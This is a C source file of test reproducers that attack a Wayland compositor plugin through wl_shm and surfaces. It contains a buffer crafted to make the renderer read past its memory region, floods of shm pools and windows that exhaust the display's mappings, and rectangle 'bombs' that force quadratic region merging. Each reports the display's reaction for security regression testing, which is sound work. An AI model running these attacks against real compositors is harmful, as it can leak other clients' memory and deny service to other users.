/* SPDX-License-Identifier: MIT */
/*
 * Reproducers that reach the display through wl_shm and surfaces: a
 * buffer that reads past the region, pools and windows by the
 * thousand, regions merged rectangle by rectangle.  Each prints what
 * the display did, so a test can tell a fixed plugin from a broken one.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "hostile.h"
#include "ivwl-protocols.h"

/* Keeps every live slot answering until the deadline: what it holds. */
static void
hold_until_deadline(struct ivwl_hostile *h)
{
	uint32_t k;

	while (ivwl_hostile_time_left(h)) {
		for (k = 0; k < h->slots; k++)
			if (h->slot[k].phase == IVWL_HOSTILE_LIVE)
				ivwl_hostile_roundtrip(h, k, NULL, NULL, 500);
		usleep(100 * 1000);
	}
}

/* ---- shm-overread --------------------------------------------------- */

#define OVR_WIDTH 400
#define OVR_HEIGHT 300
#define OVR_STRIDE OVR_WIDTH		/* bytes: a quarter of a row */
#define OVR_COLOUR 0xff00ff00u

static void
attach_commit(struct ivwl_out *out, uint32_t surface, uint32_t buffer)
{
	ivwl_out_redraw(out, surface, buffer, OVR_WIDTH, OVR_HEIGHT);
}

/*
 * A toplevel whose wl_buffer has a stride of a quarter of its row
 * (libwayland only checks stride >= width, in pixels against bytes) and
 * ends exactly at the end of the heap: every check on offset + stride *
 * height passes, and the renderer reads three quarters of a row past the
 * end of the region's mapping.  The pool memory is all OVR_COLOUR, so any
 * other colour in the window came from outside the app's range.
 */
void
ivwl_hostile_shm_overread(struct ivwl_hostile *h)
{
	struct window w = { 0 };
	struct ivwl_hostile_globals g;
	struct ivwl_out out;
	uint32_t len = (uint32_t)OVR_STRIDE * OVR_HEIGHT;
	uint32_t shm, comp, surface, top, pool, buffer, *id, *px, i;
	struct ivwl_fd_desc d;
	uint64_t offset;

	/* the last pages of the heap, which are the region's last */
	len = (len + IVWL_PAGE_SIZE - 1) & ~(IVWL_PAGE_SIZE - 1);
	offset = h->layout.region_size - len;
	px = (uint32_t *)(h->base + offset);
	d = ivwl_out_region_desc(offset, len);
	if (!ivwl_hostile_session_start(h, 0, &g, 2000) || !g.shm ||
	    !g.compositor || !g.wm_base) {
		printf("hostile-peer: shm-overread: no session\n");
		return;
	}
	for (i = 0; i < len / 4; i++)
		px[i] = OVR_COLOUR;

	id = &h->slot[0].next_id;
	shm = (*id)++;
	comp = (*id)++;
	w.wm_base = (*id)++;
	surface = (*id)++;
	w.xdg_surface = (*id)++;
	top = (*id)++;
	ivwl_out_reset(&out);
	ivwl_out_bind(&out, g.shm, "wl_shm", 1, shm);
	ivwl_out_bind(&out, g.compositor, "wl_compositor", 4, comp);
	ivwl_out_bind(&out, g.wm_base, "xdg_wm_base", 1, w.wm_base);
	ivwl_out_begin(&out, comp,
		       IVWL_REQ_WL_COMPOSITOR_CREATE_SURFACE);
	ivwl_out_u32(&out, surface);
	ivwl_out_end(&out);
	ivwl_out_begin(&out, w.wm_base, IVWL_REQ_XDG_WM_BASE_GET_XDG_SURFACE);
	ivwl_out_u32(&out, w.xdg_surface);
	ivwl_out_u32(&out, surface);
	ivwl_out_end(&out);
	ivwl_out_begin(&out, w.xdg_surface, IVWL_REQ_XDG_SURFACE_GET_TOPLEVEL);
	ivwl_out_u32(&out, top);
	ivwl_out_end(&out);
	ivwl_out_begin(&out, top, IVWL_REQ_XDG_TOPLEVEL_SET_TITLE);
	ivwl_out_string(&out, "overread");
	ivwl_out_end(&out);
	ivwl_out_begin(&out, surface, IVWL_REQ_WL_SURFACE_COMMIT);
	ivwl_out_end(&out);
	ivwl_hostile_send_wayland(h, 0, &out);
	while (!w.configured && ivwl_hostile_time_left(h) &&
	       h->slot[0].phase == IVWL_HOSTILE_LIVE)
		ivwl_hostile_roundtrip(h, 0, ivwl_hostile_on_window_event, &w,
				       200);
	if (!w.configured) {
		printf("hostile-peer: shm-overread: never configured\n");
		return;
	}

	pool = (*id)++;
	buffer = (*id)++;
	ivwl_out_reset(&out);
	ivwl_out_ack_configure(&out, w.xdg_surface, w.serial);
	ivwl_out_shm_pool(&out, shm, pool, &d, (int32_t)len);
	ivwl_out_shm_buffer(&out, pool, buffer,
			    (int32_t)(len - (uint32_t)OVR_STRIDE * OVR_HEIGHT),
			    OVR_WIDTH, OVR_HEIGHT, OVR_STRIDE,
			    IVWL_HOSTILE_XRGB8888);
	attach_commit(&out, surface, buffer);
	ivwl_hostile_send_wayland(h, 0, &out);
	printf("hostile-peer: shm-overread: %dx%d buffer, stride %d, ends at "
	       "the end of the region\n", OVR_WIDTH, OVR_HEIGHT, OVR_STRIDE);
	fflush(stdout);

	/* keep it on screen, repainted, answering pings */
	while (ivwl_hostile_time_left(h) &&
	       h->slot[0].phase == IVWL_HOSTILE_LIVE) {
		ivwl_hostile_roundtrip(h, 0, ivwl_hostile_on_window_event, &w,
				       200);
		ivwl_out_reset(&out);
		if (w.pinged) {
			ivwl_out_begin(&out, w.wm_base,
				       IVWL_REQ_XDG_WM_BASE_PONG);
			ivwl_out_u32(&out, w.ping);
			ivwl_out_end(&out);
			w.pinged = false;
		}
		attach_commit(&out, surface, buffer);
		ivwl_hostile_send_wayland(h, 0, &out);
		usleep(100 * 1000);
	}
	printf("hostile-peer: shm-overread: the connection %s\n",
	       h->slot[0].phase == IVWL_HOSTILE_LIVE ? "stayed open" :
	       "was closed");
}

/* ---- pool-flood ----------------------------------------------------- */

#define FLOOD_PER_RECORD 28u		/* one fd per pool */

struct flood {
	uint32_t shm;
	uint32_t pools;		/* created and acknowledged by a roundtrip */
};

static bool
flood_start(struct ivwl_hostile *h, uint32_t k, struct flood *f)
{
	struct ivwl_hostile_globals g;
	struct ivwl_out out;

	f->pools = 0;
	if (!ivwl_hostile_session_start(h, k, &g, 2000) || !g.shm)
		return false;
	f->shm = h->slot[k].next_id++;
	ivwl_out_reset(&out);
	ivwl_out_bind(&out, g.shm, "wl_shm", 1, f->shm);
	return ivwl_hostile_send_wayland(h, k, &out) == 0;
}

/*
 * Adds up to n pools, each kept alive by one buffer, the pool object
 * itself destroyed: the plugin forgets the pool (its MAX_POOLS count
 * drops) but libwayland keeps the mapping for the buffer.  Roundtrips
 * every record, so f->pools counts only what weston took; false once the
 * connection is gone.
 */
static bool
flood_add(struct ivwl_hostile *h, uint32_t k, struct flood *f, uint32_t n,
	  uint32_t per_record)
{
	struct ivwl_fd_desc d = ivwl_out_region_desc(h->layout.heap_offset,
						     IVWL_PAGE_SIZE);
	uint32_t *id = &h->slot[k].next_id, added = 0, i, pool;
	struct ivwl_out out;

	while (added < n && ivwl_hostile_time_left(h) &&
	       h->slot[k].phase == IVWL_HOSTILE_LIVE) {
		ivwl_out_reset(&out);
		for (i = 0; i < per_record && added + i < n; i++) {
			pool = (*id)++;
			ivwl_out_shm_pool(&out, f->shm, pool, &d,
					  IVWL_PAGE_SIZE);
			ivwl_out_shm_buffer(&out, pool, (*id)++, 0, 1, 1, 4,
					    IVWL_HOSTILE_XRGB8888);
			ivwl_out_begin(&out, pool,
				       IVWL_REQ_WL_SHM_POOL_DESTROY);
			ivwl_out_end(&out);
		}
		if (ivwl_hostile_send_wayland(h, k, &out) < 0 ||
		    !ivwl_hostile_roundtrip(h, k, NULL, NULL, 2000))
			break;
		added += i;
		f->pools += i;
	}
	ivwl_hostile_slot_poll(h, k);
	return h->slot[k].phase == IVWL_HOSTILE_LIVE;
}

/*
 * Takes as many mappings as weston lets slot k hold: floods in batches
 * until the connection dies (which frees what it held), again up to a
 * batch short of that, then one at a time until it dies, then up to one
 * short of that.  Returns the pools held.
 */
static uint32_t
hold_most(struct ivwl_hostile *h, uint32_t k)
{
	struct flood f;
	uint32_t room;

	if (!flood_start(h, k, &f))
		return 0;
	if (flood_add(h, k, &f, 1u << 17, FLOOD_PER_RECORD))
		return f.pools;		/* out of time or ids: keep it */
	room = f.pools;
	if (!flood_start(h, k, &f))
		return 0;
	if (room > FLOOD_PER_RECORD &&
	    !flood_add(h, k, &f, room - FLOOD_PER_RECORD, FLOOD_PER_RECORD))
		return 0;
	if (flood_add(h, k, &f, 1u << 17, 1))
		return f.pools;
	room = f.pools;
	if (room == 0 || !flood_start(h, k, &f) ||
	    !flood_add(h, k, &f, room - 1, FLOOD_PER_RECORD))
		return 0;
	return f.pools;
}

/*
 * Fills weston's mappings (vm.max_map_count is per process) from every
 * slot, each holding as many as it is let, and keeps them: a plugin
 * without a bound per VM leaves the other VMs' clients without a single
 * mapping to spare.
 */
void
ivwl_hostile_pool_flood(struct ivwl_hostile *h)
{
	uint32_t k, held = 0, n, slots = 0, empty = 0;

	for (k = 0; k < h->slots && empty < 2 &&
	     ivwl_hostile_time_left(h); k++) {
		n = hold_most(h, k);
		printf("hostile-peer: pool-flood: slot %u holds %u pools\n",
		       k, n);
		fflush(stdout);
		held += n;
		slots += n > 0;
		empty = n ? 0 : empty + 1;
	}
	printf("hostile-peer: pool-flood: holding %u pools on %u slots\n",
	       held, slots);
	fflush(stdout);
	hold_until_deadline(h);
}

/* ---- window-flood --------------------------------------------------- */

#define FLOOD_WINDOWS 2000u		/* per slot, unless --count */
#define FLOOD_WINDOWS_MAX 80000u	/* ids: 3 each, 2^18 per client */

/* Waits for ring room (reading events meanwhile) up to two seconds. */
static int
send_patiently(struct ivwl_hostile *h, uint32_t k, const struct ivwl_out *out,
	       struct ivwl_hostile_windows *w)
{
	int64_t end = ivwl_now_ms() + 2000;
	int ret;

	while ((ret = ivwl_hostile_send_wayland(h, k, out)) == -EAGAIN &&
	       ivwl_now_ms() < end &&
	       h->slot[k].phase == IVWL_HOSTILE_LIVE) {
		ivwl_hostile_drain_events(h, k, ivwl_hostile_windows_event, w);
		ivwl_hostile_slot_poll(h, k);
		usleep(1000);
	}
	return ret;
}

/*
 * As many mapped toplevels as one connection may make, each showing the
 * same 1x1 buffer: every repaint of weston walks them all.  Returns the
 * windows mapped.
 */
static uint32_t
map_windows(struct ivwl_hostile *h, uint32_t k, uint32_t n)
{
	struct ivwl_hostile_globals g;
	struct ivwl_out out;
	struct ivwl_hostile_windows w = { 0 };
	struct ivwl_fd_desc d = ivwl_out_region_desc(h->layout.heap_offset,
						     IVWL_PAGE_SIZE);
	uint32_t *id = &h->slot[k].next_id, shm, comp, pool, buffer, i, s;
	static uint32_t serials[FLOOD_WINDOWS_MAX];

	if (n > FLOOD_WINDOWS_MAX)
		n = FLOOD_WINDOWS_MAX;
	if (!ivwl_hostile_session_start(h, k, &g, 2000) || !g.shm ||
	    !g.compositor || !g.wm_base)
		return 0;
	memset(serials, 0, sizeof(serials));
	w.serial = serials;
	shm = (*id)++;
	comp = (*id)++;
	w.wm_base = (*id)++;
	pool = (*id)++;
	buffer = (*id)++;
	ivwl_out_reset(&out);
	ivwl_out_bind(&out, g.shm, "wl_shm", 1, shm);
	ivwl_out_bind(&out, g.compositor, "wl_compositor", 4, comp);
	ivwl_out_bind(&out, g.wm_base, "xdg_wm_base", 1, w.wm_base);
	ivwl_out_shm_pool(&out, shm, pool, &d, IVWL_PAGE_SIZE);
	ivwl_out_shm_buffer(&out, pool, buffer, 0, 1, 1, 4,
			    IVWL_HOSTILE_XRGB8888);
	ivwl_hostile_send_wayland(h, k, &out);
	ivwl_out_reset(&out);

	/* surface, xdg_surface, toplevel per window: ids in threes */
	w.first_xdg = *id + 1;
	for (i = 0; i < n; i++) {
		if (!ivwl_out_room(&out, 64)) {
			if (send_patiently(h, k, &out, &w) < 0)
				break;
			ivwl_out_reset(&out);
			ivwl_hostile_drain_events(h, k, ivwl_hostile_windows_event, &w);
		}
		s = ivwl_out_toplevel(&out, comp, w.wm_base, id);
		ivwl_out_begin(&out, s, IVWL_REQ_WL_SURFACE_COMMIT);
		ivwl_out_end(&out);
		w.count++;
	}
	send_patiently(h, k, &out, &w);
	while (w.configured < w.count && ivwl_hostile_time_left(h) &&
	       h->slot[k].phase == IVWL_HOSTILE_LIVE)
		if (!ivwl_hostile_roundtrip(h, k, ivwl_hostile_windows_event, &w, 2000))
			break;

	ivwl_out_reset(&out);
	for (i = 0; i < w.count; i++) {
		if (!w.serial[i])
			continue;
		if (!ivwl_out_room(&out, 64)) {
			if (send_patiently(h, k, &out, &w) < 0)
				break;
			ivwl_out_reset(&out);
			ivwl_hostile_drain_events(h, k, ivwl_hostile_windows_event, &w);
		}
		s = w.first_xdg + 3 * i - 1;
		ivwl_out_ack_configure(&out, s + 1, w.serial[i]);
		ivwl_out_attach_commit(&out, s, buffer);
	}
	send_patiently(h, k, &out, &w);
	ivwl_hostile_roundtrip(h, k, ivwl_hostile_windows_event, &w, 5000);
	return h->slot[k].phase == IVWL_HOSTILE_LIVE ? w.configured : 0;
}

void
ivwl_hostile_window_flood(struct ivwl_hostile *h)
{
	uint32_t want = h->count ? h->count : FLOOD_WINDOWS;
	uint32_t k, n, total = 0, empty = 0;

	for (k = 0; k < h->slots && empty < 2 && ivwl_hostile_time_left(h);
	     k++) {
		n = map_windows(h, k, want);
		/* refused (the connection was closed): try fewer */
		while (n == 0 && want >= 32 && ivwl_hostile_time_left(h)) {
			want /= 2;
			n = map_windows(h, k, want);
		}
		total += n;
		empty = n ? 0 : empty + 1;
		printf("hostile-peer: window-flood: slot %u maps %u windows "
		       "(%u in all)\n", k, n, total);
		fflush(stdout);
	}
	printf("hostile-peer: window-flood: holding %u windows\n", total);
	fflush(stdout);
	hold_until_deadline(h);
}

/* Waits until the display let slot k go (its windows with it). */
static void
wait_closed(struct ivwl_hostile *h, uint32_t k, int timeout_ms)
{
	int64_t end = ivwl_now_ms() + timeout_ms;
	uint32_t state, gen;

	do {
		ivwl_slot_state_load(&ivwl_hostile_ctrl(h, k)->display, &state,
				     &gen);
		if (state != IVWL_DISPLAY_SLOT_OPEN)
			return;
		usleep(10 * 1000);
	} while (ivwl_now_ms() < end);
}

/*
 * window-churn: the window flood again and again, as one VM may: --count
 * windows (250) mapped on a connection at once, the connection closed
 * (its windows with it), and the slot opened again, for --seconds.
 * Says "window-churn: round N: M windows" for each round that mapped
 * any.
 */
void
ivwl_hostile_window_churn(struct ivwl_hostile *h)
{
	uint32_t want = h->count ? h->count : 250, round = 0, n;

	while (ivwl_hostile_time_left(h)) {
		/* a slot opened again too soon is not answered: again */
		n = map_windows(h, 0, want);
		if (n) {
			printf("hostile-peer: window-churn: round %u: %u "
			       "windows\n", ++round, n);
			fflush(stdout);
		}
		ivwl_hostile_slot_close(h, 0);
		wait_closed(h, 0, 5000);
	}
}

/* ---- region-bomb, damage-bomb -------------------------------------- */

/*
 * 1x1 rectangles that never touch, merged into one pixman region by the
 * compositor: a wl_region (add) or a surface's pending damage
 * (damage_buffer, never committed).  Each merge walks every rectangle
 * before it, so n requests cost n^2 / 2.  Reports how long roundtrips
 * took meanwhile.
 */
static void
bomb(struct ivwl_hostile *h, const char *name, bool damage)
{
	struct ivwl_hostile_globals g;
	struct ivwl_out out;
	uint32_t comp, target, i, rects = 0, *id;
	int64_t t, worst = 0;

	if (!ivwl_hostile_session_start(h, 0, &g, 2000) || !g.compositor) {
		printf("hostile-peer: %s: no session\n", name);
		return;
	}
	id = &h->slot[0].next_id;
	comp = (*id)++;
	target = (*id)++;
	ivwl_out_reset(&out);
	ivwl_out_bind(&out, g.compositor, "wl_compositor", 4, comp);
	ivwl_out_begin(&out, comp, damage ?
		       IVWL_REQ_WL_COMPOSITOR_CREATE_SURFACE :
		       IVWL_REQ_WL_COMPOSITOR_CREATE_REGION);
	ivwl_out_u32(&out, target);
	ivwl_out_end(&out);
	ivwl_hostile_send_wayland(h, 0, &out);

	while (ivwl_hostile_time_left(h) &&
	       h->slot[0].phase == IVWL_HOSTILE_LIVE) {
		for (i = 0; i < 16; i++) {
			ivwl_out_reset(&out);
			while (ivwl_out_room(&out, 24)) {
				ivwl_out_begin(&out, target, damage ?
					IVWL_REQ_WL_SURFACE_DAMAGE_BUFFER :
					IVWL_REQ_WL_REGION_ADD);
				ivwl_out_u32(&out, (rects % 1024) * 2);
				ivwl_out_u32(&out, (rects / 1024) * 2);
				ivwl_out_u32(&out, 1);
				ivwl_out_u32(&out, 1);
				ivwl_out_end(&out);
				rects++;
			}
			while (ivwl_hostile_send_wayland(h, 0, &out) ==
			       -EAGAIN && ivwl_hostile_time_left(h))
				usleep(1000);
		}
		t = ivwl_now_ms();
		if (!ivwl_hostile_roundtrip(h, 0, NULL, NULL, 30000))
			break;
		if (ivwl_now_ms() - t > worst)
			worst = ivwl_now_ms() - t;
	}
	printf("hostile-peer: %s: %u rectangles, slowest roundtrip %lld ms, "
	       "connection %s\n", name, rects, (long long)worst,
	       h->slot[0].phase == IVWL_HOSTILE_LIVE ? "open" : "closed");
}

void
ivwl_hostile_region_bomb(struct ivwl_hostile *h)
{
	bomb(h, "region-bomb", false);
}

void
ivwl_hostile_damage_bomb(struct ivwl_hostile *h)
{
	bomb(h, "damage-bomb", true);
}
